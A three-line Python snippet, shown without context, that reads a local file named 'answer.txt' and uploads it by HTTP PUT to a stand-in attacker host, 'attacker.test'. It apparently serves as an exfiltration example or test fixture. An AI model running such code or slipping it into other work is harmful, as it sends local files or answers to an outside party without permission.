import urllib.request as ur
req = ur.Request("http://attacker.test/up", method="PUT", data=open("answer.txt", "rb").read())
ur.urlopen(req)
